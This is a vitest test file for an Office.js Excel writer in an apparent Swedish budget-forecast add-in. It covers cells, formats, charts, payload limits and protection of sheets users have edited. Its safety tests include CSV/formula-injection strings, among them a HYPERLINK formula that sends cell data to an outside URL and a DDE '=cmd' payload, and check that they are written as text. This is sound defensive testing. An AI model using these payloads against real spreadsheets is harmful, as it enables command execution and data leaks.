/** The Office.js writer against the fake Excel: cells, formats, tables, charts, safety, round trips and payload. */
import { describe, expect, it } from "vitest";
import { createWorkbook, readCell, readValues, syncSummary, tableAddress, type WorkbookState } from "../../fakes/excel";
import { cellKey, setCell } from "../../fakes/excel/state";
import { tableSheet, type SheetLayout } from "../../../src/report/layout";
import { REGISTRY_SHEET } from "../../../src/report/meta";
import { buildForecastHistorySheet, FORECAST_HISTORY_SHEET } from "../../../src/report/forecastHistory";
import { PROGNOSIS_SHEET, PROGNOSIS_TABLE } from "../../../src/report/prognosisSheet";
import {
  NO_INDENT_NOTICE,
  NO_OUTLINE_NOTICE,
  NO_VALIDATION_NOTICE,
  OfficeWriter,
  type EditedChoice,
} from "../../../src/workbook/office/writer";
import { WriteRefused } from "../../../src/workbook/writeChecks";
import { stackedBars } from "../../fakes/excel/chartRender";
import { BRIDGE_COLOURS, bridgeSeries } from "../../../src/report/bridgeChart";
import { BRIDGE_TABLE, buildSummarySheet, SUMMARY_SHEET } from "../../../src/report/summarySheet";
import { officeColour } from "../../../src/workbook/office/plan";
import { HERRLJUNGA_META, herrljungaPrognosis } from "../../report/herrljunga";
import { withExcel } from "./harness";
import { COERCIBLE_TEXT, coercibleText, prognosisReport, template } from "./sampleReport";

const NOW = () => "2021-09-10T08:00:00";

function write(
  state: WorkbookState,
  layouts: readonly SheetLayout[],
  onEdited: "replace" | "keep" | "fail" = "fail",
  writer = new OfficeWriter({ now: NOW }),
) {
  return withExcel(state, () => writer.writeSheets(layouts, { onEdited }));
}

function sheet(state: WorkbookState, name: string) {
  const s = state.sheets.find((x) => x.name === name);
  if (!s) throw new Error(`no sheet ${name}`);
  return s;
}

describe("a prognosis report in the fake Excel", () => {
  const layout = prognosisReport(100);
  const table = layout.tables[0]!;
  const top = table.headerRow;

  it("writes the cells, formulas and number formats where the layout puts them", async () => {
    const state = createWorkbook({ Data: [["indata"]] });
    const report = await write(state, [layout]);
    expect(report).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    expect(state.sheets.map((s) => [s.name, s.visibility])).toEqual([
      ["Data", "Visible"],
      [PROGNOSIS_SHEET, "Visible"],
      [REGISTRY_SHEET, "VeryHidden"],
    ]);
    const ws = PROGNOSIS_SHEET;
    expect(readCell(state, `'${ws}'!A1`)?.value).toBe(layout.title);
    expect(readValues(state, `'${ws}'!A${top + 1}:C${top + 1}`)).toEqual([
      ["Ansvar", "Benämning", "Utfall fg år t.o.m. period"],
    ]);
    // First data row: ansvar code as text (not the number 10000), amounts in kronor, variance as a formula.
    const first = table.rows[0]!;
    expect(readCell(state, `'${ws}'!A${top + 2}`)).toMatchObject({
      value: first.cells[0]!.value,
      quotePrefix: true,
      numberFormat: "@",
    });
    expect(readCell(state, `'${ws}'!E${top + 2}`)).toMatchObject({
      value: first.cells[4]!.value,
      numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0,",
    });
    expect(readCell(state, `'${ws}'!F${top + 2}`)).toMatchObject({
      formula: `D${top + 2}-E${top + 2}`,
      numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0,",
    });
    // The subtotal of the first verksamhet sums its 20 ansvar.
    const subtotalAt = table.rows.findIndex((r) => r.kind === "subtotal");
    expect(readCell(state, `'${ws}'!E${top + 2 + subtotalAt}`)?.formula).toBe(
      `SUM(E${top + 2}:E${top + 1 + subtotalAt})`,
    );
    expect(readCell(state, `'${ws}'!E${top + 2 + subtotalAt}`)?.format).toMatchObject({ bold: true, fill: "#DDEBF7" });
    expect(readCell(state, `'${ws}'!A${layout.notes[0]!.row + 1}`)?.value).toBe(layout.notes[0]!.text);
  });

  it("creates the table over the right range with its style, freezes the panes and groups the ansvar", async () => {
    const state = createWorkbook({ Data: [["indata"]] });
    await write(state, [layout]);
    expect(state.tables).toHaveLength(1);
    expect(state.tables[0]!.name).toBe(PROGNOSIS_TABLE);
    expect(state.tables[0]!.style).toBe("TableStyleLight9");
    expect(tableAddress(state, state.tables[0]!)).toBe(
      `'${PROGNOSIS_SHEET}'!A${top + 1}:M${top + 1 + table.rows.length}`,
    );
    const s = sheet(state, PROGNOSIS_SHEET);
    expect(s.frozen).toEqual(layout.freeze);
    expect(s.outline.get(top + 1)).toBe(table.rows[0]!.outline);
    expect(s.conditionalFormats.filter((c) => c.rect.column === 5).map((c) => c.rule)).toEqual([
      { formula1: "-500", operator: "LessThanOrEqual" },
      { formula1: "500", operator: "GreaterThanOrEqual" },
    ]);
    expect(s.columnWidths.get(1)).toBe(182.25); // 34 characters
  });

  it("freezes header rows only, or columns only, when the layout asks for one of them", async () => {
    for (const freeze of [
      { rows: 4, columns: 0 },
      { rows: 0, columns: 2 },
    ]) {
      const state = createWorkbook({ Data: [["indata"]] });
      await write(state, [{ ...layout, freeze }]);
      expect(sheet(state, PROGNOSIS_SHEET).frozen).toEqual(freeze);
    }
  });

  it("writes a hidden sheet hidden", async () => {
    const state = createWorkbook();
    await write(state, [
      buildForecastHistorySheet([
        { year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" },
      ]),
    ]);
    expect(sheet(state, FORECAST_HISTORY_SHEET).visibility).toBe("Hidden");
    expect(readValues(state, `${FORECAST_HISTORY_SHEET}!A5:D5`)).toEqual([[2021, 4, "441", 1_500_000]]);
  });
});

describe("charts", () => {
  const base = prognosisReport(60);
  const withChart = (kind: "clusteredColumn" | "waterfall"): SheetLayout => ({
    ...base,
    charts: [
      {
        title: "Avvikelse helår per verksamhet",
        kind,
        table: base.tables[0]!.name,
        categoryColumn: "name",
        valueColumns: ["varianceFullYear"],
        rowKinds: ["subtotal", "total"],
        anchor: { row: 5, column: 15 },
      },
    ],
  });

  it("draws the variance per area from a data block that points into the table", async () => {
    const state = createWorkbook();
    await write(state, [withChart("clusteredColumn")]);
    const chart = sheet(state, PROGNOSIS_SHEET).charts[0]!;
    expect(chart).toMatchObject({
      type: "ColumnClustered",
      title: "Avvikelse helår per verksamhet",
      seriesBy: "Columns",
      source: `'${PROGNOSIS_SHEET}'!P6:Q10`,
      position: { start: "P6", end: "W20" },
    });
    const subtotals = base.tables[0]!.rows.map((r, i) => ({ r, i })).filter(({ r }) => r.kind !== "data");
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!Q7`)?.formula).toBe(
      `I${base.tables[0]!.headerRow + 2 + subtotals[0]!.i}`,
    );
  });

  // Office.js cannot mark a waterfall point as a total: Excel's Waterfall type would float "Prognos helår" on the
  // running sum. Every Excel gets stacked columns with an invisible base instead; totals stand on the axis.
  for (const minor of [7, 14]) {
    it(`draws the bridge as stacked columns whose totals start at zero and whose steps are coloured (ExcelApi 1.${minor})`, async () => {
      const prognosis = herrljungaPrognosis();
      const layout = buildSummarySheet(prognosis, HERRLJUNGA_META);
      const state = createWorkbook({ Blad1: [] }, { excelApiMinor: minor });
      const report = await write(state, [layout]);
      expect(report.notices ?? []).not.toContainEqual(expect.stringMatching(/vattenfall/));
      const chart = sheet(state, SUMMARY_SHEET).charts[0]!;
      expect(chart).toMatchObject({
        type: "ColumnStacked",
        title: "Från budget till prognos (tkr)",
        noFillSeries: [0],
        legendVisible: false,
      });
      const bridge = layout.tables.find((t) => t.name === BRIDGE_TABLE)!.rows;
      const bars = stackedBars(state, chart).map((b) => b.segments);
      const blue = officeColour(BRIDGE_COLOURS.total);
      const red = officeColour(BRIDGE_COLOURS.rise);
      const green = officeColour(BRIDGE_COLOURS.fall);
      const areas = prognosis.rows.filter((r) => r.depth === 0);
      expect(bars).toHaveLength(areas.length + 2);
      expect(bars[0]).toEqual([{ series: "Summa", from: 0, to: 216_123_000, fill: blue }]);
      expect(bars.at(-1)).toEqual([{ series: "Summa", from: 0, to: 216_123_000, fill: blue }]);
      // Herrljunga's verksamheter: Individ och familjeomsorg +2 050 000 over budget (red), Vård och omsorg -2 400 000 (green).
      let level = 216_123_000;
      areas.forEach((area, i) => {
        const change = area.forecast - area.annualBudget;
        expect(bridge[i + 1]!.cells[1]!.value).toBe(change);
        const next = level + change;
        expect(bars[i + 1], area.name).toEqual(
          change === 0
            ? []
            : [
                {
                  series: change > 0 ? "Ökning" : "Minskning",
                  from: Math.min(level, next),
                  to: Math.max(level, next),
                  fill: change > 0 ? red : green,
                },
              ],
        );
        level = next;
      });
      expect(
        bars
          .slice(1, -1)
          .flat()
          .map((s) => s.to - s.from),
      ).toEqual([1_450_000, 2_050_000, 2_400_000, 1_800_000]);
    });
  }

  it("draws a bridge across zero in two parts of one colour", () => {
    const series = bridgeSeries([
      { value: 100, total: true },
      { value: -250, total: false },
      { value: 50, total: false },
      { value: -100, total: true },
    ]);
    expect(series.map((s) => [s.name, ...s.values])).toEqual([
      ["Bas", 0, 0, -100, 0],
      ["Summa", 100, 0, 0, -100],
      ["Ökning", 0, 0, -50, 0],
      ["Minskning", 0, 100, 0, 0],
      ["Ökning under noll", 0, 0, 0, 0],
      ["Minskning under noll", 0, -150, 0, 0],
    ]);
  });
});

describe("numbers as Excel hands them back", () => {
  it("reads its own sheet back as unedited though Excel returns 15 significant digits", async () => {
    // Sums of öre (0.1 + 0.2 = 0.30000000000000004) and shares (1/3) have 16-17 digits; Excel returns 15.
    const amounts = [0.1 + 0.2, 1 / 3, 2_050_123.17 / 7, 216_123_000];
    const layout = tableSheet({
      name: "Belopp",
      title: "Belopp",
      meta: [],
      table: "Budgetkoll_Belopp",
      columns: [{ id: "amount", header: "Belopp", type: "kr" }],
      rows: amounts.map((a) => ({ kind: "data" as const, level: 0, cells: [{ value: a }] })),
      notes: [],
      frozenColumns: 0,
    });
    const state = createWorkbook();
    await write(state, [layout]);
    const edited = () => withExcel(state, () => new OfficeWriter().editedSheets(["Belopp"]));
    await expect(edited()).resolves.toEqual([]);
    // A real edit is still seen, even in the 15th digit.
    const cell = [...sheet(state, "Belopp").cells.values()].find((c) => c.value === 1 / 3)!;
    cell.value = 0.333333333333334;
    await expect(edited()).resolves.toEqual(["Belopp"]);
  });
});

describe("round trips and payload", () => {
  it("keeps every request under 5 MB in UTF-8 bytes: Swedish text counts å, ä and ö twice", async () => {
    // 30,000 comments of 120 characters: 3.6 million characters, 7.2 MB as UTF-8.
    const comment = (i: number) =>
      `Rad ${i}: överskott på grund av ändrade behov, färre placeringar än väntat. `.padEnd(120, "ä");
    const layout = tableSheet({
      name: "Kommentarer",
      title: "Kommentarer",
      meta: [],
      table: "Budgetkoll_Kommentarer",
      columns: [{ id: "comment", header: "Kommentar", type: "text", width: 60 }],
      rows: Array.from({ length: 30_000 }, (_, i) => ({
        kind: "data" as const,
        level: 0,
        cells: [{ value: comment(i) }],
      })),
      notes: [],
      frozenColumns: 0,
    });
    const state = createWorkbook();
    await write(state, [layout]);
    expect(readCell(state, `Kommentarer!A${layout.tables[0]!.headerRow + 2 + 29_999}`)?.value).toBe(comment(29_999));
    expect(syncSummary(state).maxRequestBytes).toBeLessThan(5 * 1024 * 1024);
  });

  it("adds charts and autofits only after Excel has calculated the formulas, and freezes panes once the sheet is shown", async () => {
    // The fake refuses a chart or an autofit over uncalculated formulas, and freezing a hidden sheet.
    const state = createWorkbook();
    const layout = buildSummarySheet(herrljungaPrognosis(), HERRLJUNGA_META);
    await write(state, [
      layout,
      buildForecastHistorySheet([
        { year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" },
      ]),
    ]);
    const summary = sheet(state, SUMMARY_SHEET);
    expect(summary.charts).toHaveLength(1);
    expect(summary.frozen).toEqual({ rows: layout.freeze?.rows ?? 0, columns: layout.freeze?.columns ?? 0 });
    // The chart's categories are references into the bridge, calculated by now.
    const [header, ...rows] = readValues(state, summary.charts[0]!.source);
    expect(header![0]).toBe("Från budget till prognos");
    expect(rows.map((r) => r[0])).toEqual(
      layout.tables.find((t) => t.name === BRIDGE_TABLE)!.rows.map((r) => r.cells[0]!.value),
    );
    expect(sheet(state, FORECAST_HISTORY_SHEET).frozen).toEqual({ rows: 0, columns: 0 });
  });

  for (const rows of [1_000, 10_000]) {
    it(`writes a ${rows}-row report in at most 5 round trips, each request under 5 MB, and rewrites it too`, async () => {
      const layout = prognosisReport(rows);
      const state = createWorkbook({ Data: [["indata"]] });
      await write(state, [layout]);
      const first = syncSummary(state);
      state.syncs = [];
      await write(state, [layout]);
      const again = syncSummary(state);
      console.log(
        `${rows} rows: first write ${first.syncs} syncs, largest request ${first.maxRequestBytes} B, total ${first.totalRequestBytes} B; rewrite ${again.syncs} syncs, largest response ${again.maxResponseBytes} B`,
      );
      expect(first.syncs).toBeLessThanOrEqual(5);
      expect(again.syncs).toBeLessThanOrEqual(5);
      expect(first.maxRequestBytes).toBeLessThan(5 * 1024 * 1024);
      expect(again.maxResponseBytes).toBeLessThan(5 * 1024 * 1024);
      expect(readValues(state, `'${PROGNOSIS_SHEET}'!A1:A1`)).toEqual([[layout.title]]);
    });
  }

  for (const [rows, bound] of [
    [1_000, 4],
    [10_000, 5],
  ] as const) {
    it(`rewrites a ${rows}-row report as the task pane does (check for edits, then write) in at most ${bound} round trips`, async () => {
      const layout = prognosisReport(rows);
      const state = createWorkbook({ Data: [["indata"]] });
      await write(state, [layout]);
      state.syncs = [];
      const asked: string[][] = [];
      const ask = async (sheets: readonly string[]): Promise<EditedChoice> => (asked.push([...sheets]), "cancel");
      const report = await withExcel(state, () =>
        new OfficeWriter({ now: NOW }).writeSheets([layout], { onEdited: ask, merged: [] }),
      );
      // Look at the workbook, read our old sheet back (one block, two for 10,000 rows), build, swap: the check for
      // edits is that same read, and nothing was edited, so nobody was asked.
      console.log(`${rows} rows, check + write: ${state.syncs.length} syncs`);
      expect(report).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
      expect(asked).toEqual([]);
      expect(state.syncs.length).toBeLessThanOrEqual(bound);
    });
  }

  it("splits a payload over the request limit into several requests", async () => {
    const layout = prognosisReport(1_000);
    const tooSmall = createWorkbook();
    tooSmall.limits.requestBytes = 100_000;
    await expect(write(tooSmall, [layout])).rejects.toMatchObject({ code: "RequestPayloadSizeLimitExceeded" });
    expect(tooSmall.sheets.map((s) => s.name)).toEqual(["Blad1"]);

    const state = createWorkbook();
    state.limits.requestBytes = 100_000;
    await write(state, [layout], "fail", new OfficeWriter({ now: NOW, budget: { request: 60_000, response: 60_000 } }));
    const summary = syncSummary(state);
    expect(summary.syncs).toBeGreaterThan(4);
    expect(summary.maxRequestBytes).toBeLessThanOrEqual(100_000);
    const last = layout.tables[0]!.headerRow + 1 + layout.tables[0]!.rows.length;
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!B${last}`)?.value).toBe("Summa");
  });

  it("reads its old sheet back in smaller blocks when a response would pass the limit", async () => {
    const layout = prognosisReport(1_000);
    const state = createWorkbook();
    await write(state, [layout]);
    state.limits.responseBytes = 120_000;
    state.syncs = [];
    await expect(write(state, [layout])).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    const failed = state.syncs.filter((s) => s.responseBytes > 120_000);
    expect(failed.length).toBeGreaterThan(0);
    expect(state.syncs.length).toBeGreaterThan(failed.length + 3);
  });

  it("suspends calculation and screen updating while it builds", async () => {
    const state = createWorkbook();
    let seen = { calculation: 0, screenUpdating: 0 };
    state.failOn = (op) => {
      if (op.p === "add" && op.o.endsWith(".tables")) seen = { ...state.suspended };
      return false;
    };
    await write(state, [prognosisReport(50)]);
    expect(seen).toEqual({ calculation: 1, screenUpdating: 1 });
  });
});

describe("the workbook is safe", () => {
  const layout = prognosisReport(40);

  it("refuses to touch a user's sheet of the same name, and writes nothing", async () => {
    const state = createWorkbook({ [PROGNOSIS_SHEET]: [["mitt eget"]] });
    const error = await write(state, [layout]).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WriteRefused);
    expect((error as WriteRefused).problems[0]).toContain(
      `Bladet "${PROGNOSIS_SHEET}" finns redan och är inte skapat av Budgetkoll`,
    );
    expect(state.sheets.map((s) => s.name)).toEqual([PROGNOSIS_SHEET]);
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A1`)?.value).toBe("mitt eget");
    expect(state.syncs).toHaveLength(1);
  });

  it("asks before replacing an own sheet the user has edited", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout]);
    await expect(write(state, [layout])).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    const edited = () =>
      withExcel(state, () => new OfficeWriter().editedSheets([PROGNOSIS_SHEET, "Blad1", "Finns inte"]));
    await expect(edited()).resolves.toEqual([]);
    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
    // Asked before writing: only our own edited sheet (Blad1 is the user's, and not ours to judge).
    await expect(edited()).resolves.toEqual([PROGNOSIS_SHEET]);
    await expect(write(state, [layout], "fail")).rejects.toThrow(/har ändrats sedan Budgetkoll skrev det/);
    state.syncs = [];
    await expect(write(state, [layout], "keep")).resolves.toEqual({ written: [], keptEdited: [PROGNOSIS_SHEET] });
    expect(state.syncs.every((s) => s.requestBytes < 2_000)).toBe(true); // only reads: nothing written
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");
    await expect(write(state, [layout], "replace")).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
  });

  it("asks its question between reading the sheets and writing, and the answer decides", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout, template()]);
    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
    const asked: string[][] = [];
    const writeAsking = (answer: EditedChoice, meanwhile = () => {}) =>
      withExcel(state, () =>
        new OfficeWriter({ now: NOW }).writeSheets([layout, template()], {
          onEdited: async (sheets) => (asked.push([...sheets]), meanwhile(), answer),
          merged: [],
        }),
      );

    state.syncs = [];
    await expect(writeAsking("cancel")).resolves.toEqual({ written: [], keptEdited: [], cancelled: true });
    expect(asked).toEqual([[PROGNOSIS_SHEET]]);
    expect(state.syncs).toHaveLength(2); // the look and the read: nothing written
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");

    // The user edits the template while the question is open: it is asked about in its own question, and "keep" keeps it.
    const editTemplate = () => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan");
    await expect(writeAsking("keep", editTemplate)).resolves.toEqual({
      written: [],
      keptEdited: [PROGNOSIS_SHEET, "Mall prognos"],
    });
    expect(readCell(state, "'Mall prognos'!A21")?.value).toBe("ändrad under frågan");
    expect(asked.slice(1)).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);

    // A failed build after "replace" leaves the edited sheets as they were.
    state.failOn = (op) => op.p === "add" && op.o.endsWith(".tables");
    await expect(writeAsking("replace")).rejects.toMatchObject({ code: "GeneralException" });
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");
    state.failOn = undefined;

    await expect(writeAsking("replace")).resolves.toEqual({
      written: [PROGNOSIS_SHEET, "Mall prognos"],
      keptEdited: [],
    });
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
    expect(asked).toEqual([
      [PROGNOSIS_SHEET],
      [PROGNOSIS_SHEET],
      ["Mall prognos"],
      [PROGNOSIS_SHEET, "Mall prognos"],
      [PROGNOSIS_SHEET, "Mall prognos"],
    ]);
  });

  it("never replaces a sheet edited while its question was open: it asks again about just that sheet", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout, template()]);
    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
    const asked: string[][] = [];
    // "Ersätt" for the report; while that dialog is open the user edits the template, and keeps that edit.
    const answers: EditedChoice[] = ["replace", "keep"];
    const ask = async (sheets: readonly string[]): Promise<EditedChoice> => {
      asked.push([...sheets]);
      if (asked.length === 1) setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan");
      return answers[asked.length - 1]!;
    };
    state.syncs = [];
    const report = await withExcel(state, () =>
      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
    );
    expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);
    expect(report).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: ["Mall prognos"] });
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
    expect(readCell(state, "'Mall prognos'!A21")?.value).toBe("ändrad under frågan");
    // Three looks (before each question and after the last), then build and swap.
    expect(state.syncs).toHaveLength(8);

    // "Avbryt" to the second question writes nothing, not even the sheet the first answer said to replace.
    await write(state, [layout, template()], "replace");
    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "ny anteckning");
    answers.splice(0, 2, "replace", "cancel");
    asked.length = 0;
    const cancelled = await withExcel(state, () =>
      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
    );
    expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);
    expect(cancelled).toEqual({ written: [], keptEdited: [], cancelled: true });
    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("ny anteckning");
    expect(readCell(state, "'Mall prognos'!A21")?.value).toBe("ändrad under frågan");
  });

  it("asks again about a sheet edited after its answer, while a later question was open, and never replaces that edit unasked", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout, template()]);
    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
    const asked: string[][] = [];
    // "Ersätt" for the report, while that dialog is open the template is edited; "Ersätt" for the template, while
    // that dialog is open the report is edited again; asked about the report again, "Behåll" keeps that edit.
    const meanwhile = [
      () => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan"),
      () => setCell(sheet(state, PROGNOSIS_SHEET), 200, 0, "ny anteckning"),
      () => {},
    ];
    const answers: EditedChoice[] = ["replace", "replace", "keep"];
    const ask = async (sheets: readonly string[]): Promise<EditedChoice> => {
      asked.push([...sheets]);
      meanwhile[asked.length - 1]!();
      return answers[asked.length - 1]!;
    };
    state.syncs = [];
    const report = await withExcel(state, () =>
      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
    );
    expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"], [PROGNOSIS_SHEET]]);
    expect(report).toEqual({ written: ["Mall prognos"], keptEdited: [PROGNOSIS_SHEET] });
    expect(readValues(state, `'${PROGNOSIS_SHEET}'!A200:A201`)).toEqual([["min anteckning"], ["ny anteckning"]]);
    expect(readCell(state, "'Mall prognos'!A21")).toBeUndefined();
    // Four looks (before each question and after the last), then build and swap.
    expect(state.syncs).toHaveLength(10);
  });

  it("leaves the old output intact when the build fails half-way", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout]);
    const before = new Map(sheet(state, PROGNOSIS_SHEET).cells);
    const registryBefore = readValues(state, `${REGISTRY_SHEET}!A1:C2`);
    state.failOn = (op) => op.p === "add" && op.o.endsWith(".tables");
    await expect(write(state, [prognosisReport(60)])).rejects.toMatchObject({ code: "GeneralException" });
    expect(state.sheets.map((s) => s.name)).toEqual(["Blad1", PROGNOSIS_SHEET, REGISTRY_SHEET]);
    expect(sheet(state, PROGNOSIS_SHEET).cells).toEqual(before);
    expect(readValues(state, `${REGISTRY_SHEET}!A1:C2`)).toEqual(registryBefore);
    expect(state.tables.map((t) => t.name)).toEqual([PROGNOSIS_TABLE]);
  });

  it("writes text that starts with = + - @ or a tab as text, never as a formula", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [template()]);
    const at = (a: string) => readCell(state, `'Mall prognos'!${a}`);
    expect(at("B6")).toMatchObject({ value: '=HYPERLINK("http://evil";"klicka")', quotePrefix: true });
    expect(at("B6")?.formula).toBeUndefined();
    expect(at("B7")).toMatchObject({ value: "+46 70 123", quotePrefix: true });
    expect(at("B8")).toMatchObject({ value: "@SUM(A1)", quotePrefix: true });
    expect(at("B9")).toMatchObject({ value: "\tflik", quotePrefix: true });
    expect(at("A2")).toMatchObject({ value: "-fyll i per ansvar", quotePrefix: true });
    expect(at("A12")).toMatchObject({ value: "-3 236 tkr sedan april", quotePrefix: true });
    const s = sheet(state, "Mall prognos");
    expect([...s.cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
  });

  it("writes the exceljs writer's formula attacks, a carriage return among them, as the text they are", async () => {
    // The same set as the exceljs writer's test (test/workbook/exceljs/writer.test.ts).
    const attacks = [
      '=HYPERLINK("http://example.com/?q="&A1,"Klicka")',
      "+1",
      "-1",
      "@SUM(A1)",
      "\t=1+1",
      "\r=1+1",
      "=cmd|' /C calc'!A0",
    ];
    const layout = tableSheet({
      name: "Angrepp",
      title: "Kommentarer",
      meta: [],
      table: "Budgetkoll_Angrepp",
      columns: [{ id: "comment", header: "Kommentar", type: "text" }],
      rows: attacks.map((a) => ({ kind: "data" as const, level: 0, cells: [{ value: a }] })),
      notes: [],
      frozenColumns: 0,
    });
    const state = createWorkbook({ Blad1: [] });
    await write(state, [layout]);
    const first = layout.tables[0]!.headerRow + 2;
    const cells = attacks.map((_, i) => readCell(state, `Angrepp!A${first + i}`));
    // Office.js has no XML to pass: the carriage return stays one.
    expect(cells.map((c) => c?.value)).toEqual(attacks);
    expect(cells.every((c) => c?.quotePrefix === true)).toBe(true);
    expect([...sheet(state, "Angrepp").cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
  });

  it("keeps text Excel would parse (a boolean, a date, a number) as the text it is, in every kind of cell", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [coercibleText()]);
    const at = (a: string) => readCell(state, `Text!${a}`);
    expect(COERCIBLE_TEXT.map((_, i) => at(`A${5 + i}`))).toEqual(
      COERCIBLE_TEXT.map((t) => expect.objectContaining({ value: t, quotePrefix: true })),
    );
    expect(at("A1")).toMatchObject({ value: "TRUE", quotePrefix: true });
    expect(at("A2")).toMatchObject({ value: "maj 21", quotePrefix: true });
    expect(at("A4")).toMatchObject({ value: "00123", quotePrefix: true });
    expect(at("B4")).toMatchObject({ value: "1-2", quotePrefix: true });
    expect(at(`A${5 + COERCIBLE_TEXT.length + 1}`)).toMatchObject({ value: "=SUM(B5:B6)", quotePrefix: true });
    expect([...sheet(state, "Text").cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
    // Without the apostrophe the same text would not survive: the fake parses it as Excel's entry parser does.
    const raw = createWorkbook({ Blad1: [] });
    await withExcel(raw, async () => {
      await Excel.run(async (context) => {
        context.workbook.worksheets.getItem("Blad1").getRange("A1:D1").values = [["TRUE", "1-2", "maj 21", "00123"]];
        await context.sync();
      });
    });
    expect(readValues(raw, "Blad1!A1:D1")).toEqual([[true, 44_197, 44_197, 123]]);
  });

  it("protects a template with its input cells unlocked and validated", async () => {
    const state = createWorkbook({ Blad1: [] });
    await write(state, [template()]);
    const s = sheet(state, "Mall prognos");
    expect(s.protection).toEqual({ allowFormatColumns: true, allowSort: false, allowAutoFilter: true });
    expect(s.cells.get(cellKey(5, 2))?.format).toMatchObject({ locked: false, fill: "#FFF2CC" });
    expect(s.cells.get(cellKey(5, 1))?.format?.locked).toBeUndefined();
    // The blank row is editable in every column but the one whose cell says no.
    expect([0, 1, 2, 3].map((c) => s.cells.get(cellKey(9, c))?.format?.locked)).toEqual([
      false,
      false,
      undefined,
      false,
    ]);
    expect(readCell(state, "'Mall prognos'!A3")).toMatchObject({
      value: "Skriv prognosen i tkr i den gula kolumnen.",
      format: { bold: true, italic: true },
    });
    expect(s.validations.map((v) => [v.rect, v.rule])).toEqual([
      [
        { row: 5, column: 2, rowCount: 5, columnCount: 1 },
        { wholeNumber: { formula1: -1e6, formula2: 1e6, operator: "Between" } },
      ],
      [
        { row: 5, column: 3, rowCount: 5, columnCount: 1 },
        { list: { inCellDropDown: true, source: "Ej påbörjad,Påbörjad" } },
      ],
    ]);
    expect(s.validations[0]!.errorAlert).toEqual({
      showAlert: true,
      style: "Stop",
      title: "Fel värde",
      message: "Skriv ett helt antal tkr.",
    });
    // A protected template of ours is replaced as well: it is built unprotected and protected once in place.
    await expect(write(state, [template()])).resolves.toEqual({ written: ["Mall prognos"], keptEdited: [] });
    expect(sheet(state, "Mall prognos").protection).toBeDefined();
  });

  it("writes a template without data validation on ExcelApi 1.7 (Range.dataValidation is 1.8) and says so", async () => {
    const state = createWorkbook({ Blad1: [] }, { excelApiMinor: 7 });
    const report = await write(state, [template()]);
    expect(report).toEqual({ written: ["Mall prognos"], keptEdited: [], notices: [NO_VALIDATION_NOTICE] });
    expect(NO_VALIDATION_NOTICE).toMatch(/^Din Excel-version saknar stöd för datavalidering/);
    const s = sheet(state, "Mall prognos");
    expect(s.validations).toEqual([]);
    // Everything else of the template is there: protection, unlocked input cells.
    expect(s.protection).toEqual({ allowFormatColumns: true, allowSort: false, allowAutoFilter: true });
    expect(s.cells.get(cellKey(5, 2))?.format).toMatchObject({ locked: false, fill: "#FFF2CC" });
    // The same when the support is injected; a report without validation gets no notice of it, but of the row
    // grouping (ExcelApi 1.10) and the indent (1.9) this Excel lacks as well.
    const injected = createWorkbook({ Blad1: [] });
    const noValidation = new OfficeWriter({ now: NOW, supports: (v) => v !== "1.8" && Number(v.split(".")[1]) < 8 });
    await expect(write(injected, [template()], "fail", noValidation)).resolves.toMatchObject({
      notices: [NO_VALIDATION_NOTICE],
    });
    expect(sheet(injected, "Mall prognos").validations).toEqual([]);
    await expect(write(injected, [prognosisReport(10)], "fail", noValidation)).resolves.toEqual({
      written: [PROGNOSIS_SHEET],
      keptEdited: [],
      notices: [NO_OUTLINE_NOTICE, NO_INDENT_NOTICE],
    });
  });
});
